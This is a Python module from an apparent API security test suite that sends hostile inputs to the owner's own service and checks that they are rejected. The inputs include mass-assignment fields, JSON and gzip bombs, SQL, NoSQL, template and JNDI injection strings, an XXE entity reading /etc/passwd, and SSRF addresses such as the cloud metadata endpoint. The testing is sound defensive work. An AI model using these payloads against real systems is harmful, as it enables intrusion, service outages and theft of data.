"""Hostile content: members that are not asked for, bombs, injections, addresses."""

import gzip
import json
import time
import zlib
from collections.abc import Iterator
from functools import partial
from http import HTTPStatus
from typing import Any

from tools.measure.attacks.case import Answer, Case
from tools.measure.attacks.world import World

MEMBERS = {
    "id": "none_00000000000000000000000000",
    "tenant": "globex",
    "owner": "globex",
    "version": 99,
    "createdAt": "2000-01-01T00:00:00Z",
    "total": {"amount": 0, "currency": "EUR"},
    "price": {"amount": 0, "currency": "EUR"},
    "status": "delivered",
    "state": "delivered",
    "isAdmin": True,
    "role": "staff",
    "scopes": ["admin"],
    "pk": "TENANT#globex",
    "sk": "THING#x",
    "__proto__": {"isAdmin": True},
    "constructor": {"prototype": {}},
    "$ref": "file:///etc/passwd",
    "@type": "java.lang.Runtime",
}
INJECTIONS = (
    "' OR '1'='1",
    '{"$gt": ""}',
    "attribute_exists(pk)",
    "x) OR attribute_not_exists(pk",
    ":tenant",
    "#pk",
    "TENANT#acme",
    "THING#\x00",
    "${jndi:ldap://elsewhere.example/a}",
    "{{7*7}}",
    "$util.error('x')",
    "$input.json('$')",
    "#set($x=1)$x",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\r\nSet-Cookie: a=b",
    'line\nbreak {"level":"ERROR"}',
    "\N{GRINNING FACE}" * 40,
    "a" * 3000,
    "(" * 200 + "a" * 30 + "!",
)
ADDRESSES = (
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "//elsewhere.example/x",
    "..%2f..%2f{service}",
    "../../{service}",
    "?ids=x&category=y",
    "x&limit=1000",
    "x#fragment",
    "@elsewhere.example",
    "http://[::1]:80/",
    "gopher://127.0.0.1:25/",
    "x\r\nHost: elsewhere.example",
)
JSON = {"Content-Type": "application/json"}
MB = 1024 * 1024
QUICK_SECONDS = 10.0
"""A third of the gateway's time, on a machine that attacks itself meanwhile."""


def cases(world: World) -> Iterator[Case]:
    """Bodies and parameters of all routes, made hostile."""
    yield from _mass_assignment(world)
    yield from _bombs(world)
    yield from _injections(world)
    yield from _addresses(world)


def _mass_assignment(world: World) -> Iterator[Case]:
    for name, value in MEMBERS.items():

        def assigned(name: str = name, value: Any = value) -> Answer:
            return world.create(world.owner, f"mass-{time.time_ns()}", **{name: value})

        def ignored(answer: Answer, name: str = name, value: Any = value) -> bool:
            return (
                answer.status == HTTPStatus.BAD_REQUEST
                or json.loads(answer.body).get(name) != value
            )

        yield Case("API3", "mass assignment", name, assigned, (400, 201), ignored)


def _bombs(world: World) -> Iterator[Case]:
    path = world.journey.path
    body = json.dumps(world.journey.body(world.need, 1)).encode()
    deep = 200_000
    bombs: dict[str, tuple[bytes, dict[str, str]]] = {
        "deep lists": (b"[" * deep + b"]" * deep, {}),
        "deep objects": (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, {}),
        "deep inside": (b'{"items":' + b"[" * deep + b"]" * deep + b"}", {}),
        "unfinished": (b"[" * 100_000, {}),
        "many members": (json.dumps({f"a{i}": i for i in range(50_000)}).encode(), {}),
        "many items": (json.dumps({"items": [{}] * 50_000}).encode(), {}),
        "long string": (json.dumps({"items": "a" * 2 * MB}).encode(), {}),
        "long number": (b'{"items":' + b"9" * 100_000 + b"}", {}),
        "exponent": (b'{"items":1e999999999}', {}),
        "11 MB": (b'"' + b"a" * (11 * MB) + b'"', {}),
        "NaN": (b'{"items":NaN}', {}),
        "infinity": (b'{"items":-Infinity}', {}),
        "lone surrogate": (b'{"items":"\\ud800"}', {}),
        "invalid UTF-8": (b'{"items":"\xff\xfe"}', {}),
        "UTF-16": ('{"items":[]}'.encode("utf-16"), {}),
        "zero bytes": (b"\x00" * 1000, {}),
        "twice the same member": (b'{"items":[],"items":[{}]}', {}),
        "no JSON": (b"<xml/>", {}),
        "empty": (b"", {}),
        "null": (b"null", {}),
        "XML": (
            b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            {"Content-Type": "application/xml"},
        ),
        "form": (b"items=1", {"Content-Type": "application/x-www-form-urlencoded"}),
        "multipart": (b"--x\r\n\r\n--x--", {"Content-Type": "multipart/form-data; boundary=x"}),
        "gzip bomb": (gzip.compress(b"a" * 50 * MB), {"Content-Encoding": "gzip"}),
        "gzip of a body with a bomb": (gzip.compress(b"[" * 20 * MB), {"Content-Encoding": "gzip"}),
        "deflate bomb": (zlib.compress(b"a" * 50 * MB), {"Content-Encoding": "deflate"}),
        "gzip that is none": (body, {"Content-Encoding": "gzip"}),
        "unknown encoding": (b"\x00\x01" + body, {"Content-Encoding": "br"}),
    }
    for name, (content, headers) in bombs.items():
        yield Case(
            "API4",
            "bomb",
            name,
            partial(
                world.ask,
                "POST",
                path,
                world.tokens[world.owner],
                content=content,
                headers={**JSON, "Idempotency-Key": f"bomb-{time.time_ns()}", **headers},
            ),
            harmless=lambda answer: answer.seconds < QUICK_SECONDS,
            alone=True,
        )
    for limit in ("0", "-1", "101", "1000000", "1e9", "9" * 400, "NaN", "", "1 OR 1", "0x10"):
        yield Case(
            "API4",
            "page size",
            limit[:12] or "empty",
            partial(world.ask, "GET", path, world.tokens[world.owner], params={"limit": limit}),
        )


def _injections(world: World) -> Iterator[Case]:
    path, token = world.journey.path, world.tokens[world.owner]
    for text in INJECTIONS:
        name = ascii(text)[:30]
        yield Case(
            "API8",
            "injection",
            f"as an id: {name}",
            partial(world.ask, "GET", f"{path}/{_quoted(text)}", token),
        )
        yield Case(
            "API8",
            "injection",
            f"as a cursor: {name}",
            partial(world.ask, "GET", path, token, params={"cursor": text}),
        )
        yield Case(
            "API8",
            "injection",
            f"as a {world.journey.state}: {name}",
            partial(world.ask, "GET", path, token, params={world.journey.state: text}),
        )


def _addresses(world: World) -> Iterator[Case]:
    """Values that a service puts into the address of another: each stays one parameter's value."""
    for address in ADDRESSES:

        def named(address: str = address) -> Answer:
            hostile = address.replace("{service}", world.journey.service)
            content = json.dumps(world.journey.body(world.need, 1)).replace(
                json.dumps(world.need), json.dumps(hostile)
            )
            return world.ask(
                "POST",
                world.journey.path,
                world.tokens[world.owner],
                content=content.encode(),
                headers={**JSON, "Idempotency-Key": f"address-{time.time_ns()}"},
            )

        yield Case("API7", "address of another service", ascii(address)[:40], named, (400, 422))


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
